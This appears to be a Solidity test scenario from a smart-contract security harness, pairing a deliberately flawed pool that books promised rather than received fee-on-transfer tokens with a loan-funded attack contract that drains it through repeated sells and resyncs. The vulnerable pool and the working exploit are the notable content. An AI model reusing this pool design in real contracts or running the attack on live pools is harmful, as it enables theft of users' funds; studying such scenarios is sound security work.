// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Keeps one per cent of what is moved.
contract TaxedToken is Token {
    constructor() Token("TAX", 18) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 tax = amount / 100;
        super._move(from, to, amount - tax);
        _burn(from, tax);
    }
}

/// A pool that books what it was promised, and can be made to look at what it holds.
contract BookPool {
    Token public immutable taxed;
    IERC20 public immutable usd;
    uint256 public bookTaxed;
    uint256 public bookUsd;

    event Traded(address indexed who, bool sold, uint256 paid, uint256 got);

    constructor(Token taxed_, IERC20 usd_) {
        (taxed, usd) = (taxed_, usd_);
    }

    function open() external {
        (bookTaxed, bookUsd) = (taxed.balanceOf(address(this)), usd.balanceOf(address(this)));
    }

    function sell(uint256 amount) external {
        uint256 out = amount * bookUsd / (bookTaxed + amount);
        taxed.transferFrom(msg.sender, address(this), amount);
        (bookTaxed, bookUsd) = (bookTaxed + amount, bookUsd - out);
        usd.transfer(msg.sender, out);
        emit Traded(msg.sender, true, amount, out);
    }

    function buy(uint256 amount) external {
        uint256 out = amount * bookTaxed / (bookUsd + amount);
        usd.transferFrom(msg.sender, address(this), amount);
        (bookTaxed, bookUsd) = (bookTaxed - out, bookUsd + amount);
        taxed.transfer(msg.sender, out);
        emit Traded(msg.sender, false, amount, out);
    }

    function gulp() external {
        bookTaxed = taxed.balanceOf(address(this));
    }
}

contract FeeOnTransferScene is Scene {
    Token public usd;
    TaxedToken public taxed = new TaxedToken();
    BookPool public pool;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(taxed), "TAX", 18, 1e6);
        pool = new BookPool(taxed, IERC20(address(usd)));
        usd.mint(address(pool), 1_000_000e18);
        taxed.mint(address(pool), 1_000_000e18);
        pool.open();
        _protect(address(pool));
        _loan(IERC20(address(usd)), 60_000_000e18);
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 100_000e18, address(pool));
        _arm(taxed, users, 100_000e18, address(pool));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 amount = _amount(dice, 10e18, 1_500e18);
        if (dice >> 200 & 15 == 0) return (address(pool), 0, abi.encodeCall(BookPool.gulp, ()));
        if (pool.bookTaxed() < pool.bookUsd()) return (address(pool), 0, abi.encodeCall(BookPool.sell, (amount)));
        return (address(pool), 0, abi.encodeCall(BookPool.buy, (amount)));
    }
}

contract FeeOnTransferAttack is Attack {
    BookPool private immutable pool;

    constructor(FeeOnTransferScene scene) Attack(scene) {
        pool = scene.pool();
    }

    /// Buys nearly everything, shrinks what is left by selling in tiny bits that count in full, and sells back.
    function _act(uint256, uint256 index, uint256) internal override {
        if (index > 0) return;
        loanToken.approve(address(pool), type(uint256).max);
        pool.taxed().approve(address(pool), type(uint256).max);
        uint256 put = loot0.balanceOf(address(this)) * 9 / 10;
        pool.buy(put);
        pool.gulp();
        for (uint256 i; i < 12; i++) {
            uint256 left = pool.bookTaxed();
            pool.sell(left);
            pool.buy(pool.bookUsd() / 100);
            pool.gulp();
        }
        pool.sell(pool.taxed().balanceOf(address(this)));
    }
}
